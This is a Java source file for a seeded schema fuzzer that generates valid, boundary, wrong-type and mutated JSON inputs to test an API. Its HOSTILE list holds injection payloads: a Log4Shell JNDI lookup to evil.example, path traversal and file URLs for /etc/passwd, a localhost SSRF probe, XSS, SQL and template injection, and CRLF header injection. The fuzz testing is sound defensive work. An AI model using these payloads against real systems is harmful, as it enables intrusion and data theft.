package org.vigie.console;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/// Makes values for the schemas of a document: valid, at a limit, of a wrong type, too large,
/// hostile. The same seed makes the same values.
final class SchemaFuzzer {
  /// Texts that mean something somewhere.
  private static final List<String> WORDS =
      List.of(
          "desk",
          "summit",
          "ceasefire",
          "fr",
          "FR",
          "Russie",
          "le-phare",
          "email",
          "webhook",
          "ntfy",
          "chat",
          "file",
          "console",
          "slack",
          "high",
          "https://hooks.example/a/b?c=d",
          "redaction@phare.example",
          "https://ntfy.example/desk",
          "2025",
          "2025-08",
          "2025-08-31",
          "2025-08-31T14:00",
          "07:30",
          "daily 07:30",
          "none",
          "mon-fri 22:00-07:00",
          "Europe/Paris",
          "story-1",
          "item-1",
          "c30",
          "sommet AND NOT pays:RU",
          "\"Port-Clair\"~3",
          "waiting",
          "too-much",
          "missed",
          "then",
          "now",
          "phare.example/rss",
          "news",
          "all");

  private static final List<String> HOSTILE =
      List.of(
          "",
          " ",
          "\u0000",
          "\r\nSet-Cookie: a=b",
          "<script>alert(1)</script>",
          "../../etc/passwd",
          "\uD800",
          "\uDC00\uD800",
          "\u202E\u2066",
          "é".repeat(50),
          "%00%ff%zz",
          "'; DROP TABLE",
          "${jndi:ldap://evil.example}",
          "{{7*7}}",
          "(((((((((",
          "\"",
          "\\",
          "a AND",
          "NOT",
          "-1",
          "1e309",
          "NaN",
          "null",
          "true",
          "[]",
          "{}",
          "0000-00-00",
          "9999-12-31T23:59:59Z",
          "+999999999-12-31",
          "\uFEFF",
          "😀".repeat(40),
          "http://127.0.0.1:22/",
          "file:///etc/passwd",
          "javascript:alert(1)",
          "*",
          "?",
          "*:*",
          "outlet:(",
          "a".repeat(101),
          "~".repeat(300));

  private final JsonNode document;
  private final Random random;

  SchemaFuzzer(JsonNode document, long seed) {
    this.document = document;
    random = new Random(seed);
  }

  boolean chance(int percent) {
    return random.nextInt(100) < percent;
  }

  <T> T pick(List<T> all) {
    return all.get(random.nextInt(all.size()));
  }

  /// A text for a parameter.
  String text(JsonNode schema) {
    JsonNode value = chance(70) ? valid(schema) : wrong();
    return value.isString() ? value.asString() : value.toString();
  }

  /// A body, most often with something wrong somewhere.
  String body(JsonNode schema) {
    JsonNode valid = valid(schema);
    JsonNode body = chance(40) ? valid : mutate(valid);
    String json = JsonMapper.builder().build().writeValueAsString(body);
    return chance(5) ? json.substring(0, random.nextInt(json.length() + 1)) : json;
  }

  private JsonNode resolve(JsonNode schema) {
    String reference = schema.path("$ref").asString("");
    return reference.isEmpty() ? schema : document.at(reference.substring(1));
  }

  private JsonNode valid(JsonNode given) {
    JsonNode schema = resolve(given);
    if (schema.has("enum")) {
      return pick(schema.get("enum").valueStream().toList());
    }
    if (schema.has("oneOf")) {
      return valid(pick(schema.get("oneOf").valueStream().toList()));
    }
    if (schema.has("allOf")) {
      ObjectNode merged = JsonNodeFactory.instance.objectNode();
      schema.get("allOf").forEach(part -> merged.setAll((ObjectNode) valid(part)));
      return merged;
    }
    JsonNode type = schema.path("type");
    String name =
        type.isArray() ? pick(type.valueStream().toList()).asString() : type.asString("null");
    return switch (name) {
      case "string" -> JsonNodeFactory.instance.stringNode(validText(schema));
      case "integer" -> JsonNodeFactory.instance.numberNode(validInteger(schema));
      case "number" -> JsonNodeFactory.instance.numberNode(random.nextDouble() * 4);
      case "boolean" -> JsonNodeFactory.instance.booleanNode(random.nextBoolean());
      case "array" -> validArray(schema);
      case "object" -> validObject(schema);
      default -> JsonNodeFactory.instance.nullNode();
    };
  }

  private String validText(JsonNode schema) {
    int most = schema.path("maxLength").asInt(300);
    String text =
        switch (random.nextInt(10)) {
          case 0 -> "x".repeat(most);
          case 1, 2 -> pick(HOSTILE);
          default -> pick(WORDS);
        };
    return text.length() > most ? text.substring(0, most) : text;
  }

  private int validInteger(JsonNode schema) {
    int least = schema.path("minimum").asInt(-5);
    int most = schema.path("maximum").asInt(1_000);
    return switch (random.nextInt(4)) {
      case 0 -> least;
      case 1 -> most;
      default -> least + random.nextInt(most - least + 1);
    };
  }

  private ArrayNode validArray(JsonNode schema) {
    ArrayNode array = JsonNodeFactory.instance.arrayNode();
    for (int i = random.nextInt(4); i > 0; i--) {
      array.add(valid(schema.path("items")));
    }
    return array;
  }

  private ObjectNode validObject(JsonNode schema) {
    ObjectNode object = JsonNodeFactory.instance.objectNode();
    List<String> required = schema.path("required").valueStream().map(JsonNode::asString).toList();
    for (Map.Entry<String, JsonNode> property : schema.path("properties").properties()) {
      if (required.contains(property.getKey()) || chance(40)) {
        object.set(property.getKey(), valid(property.getValue()));
      }
    }
    return object;
  }

  /// Something that is hardly right anywhere.
  private JsonNode wrong() {
    JsonNodeFactory nodes = JsonNodeFactory.instance;
    return switch (random.nextInt(10)) {
      case 0 -> nodes.nullNode();
      case 1 -> nodes.numberNode(Long.MAX_VALUE);
      case 2 -> nodes.numberNode(-0.5e300);
      case 3 -> nodes.booleanNode(true);
      case 4 -> nodes.arrayNode().add(nodes.objectNode());
      case 5 -> nodes.objectNode().set("x", nodes.arrayNode());
      case 6 -> nodes.stringNode("x".repeat(20_000));
      default -> nodes.stringNode(pick(HOSTILE));
    };
  }

  /// The value with one place of it replaced, removed, added or doubled.
  private JsonNode mutate(JsonNode value) {
    if (value.isObject() && !value.isEmpty() && chance(85)) {
      ObjectNode object = (ObjectNode) value;
      String name = pick(new ArrayList<>(object.propertyNames()));
      switch (random.nextInt(5)) {
        case 0 -> object.remove(name);
        case 1 -> object.set(pick(HOSTILE), wrong());
        default -> object.set(name, mutate(object.get(name)));
      }
      return object;
    }
    if (value.isArray() && !value.isEmpty() && chance(85)) {
      ArrayNode array = (ArrayNode) value;
      int at = random.nextInt(array.size());
      if (chance(10)) {
        for (int i = 0; i < 1_200; i++) {
          array.add(array.get(at));
        }
      } else {
        array.set(at, mutate(array.get(at)));
      }
      return array;
    }
    return wrong();
  }
}
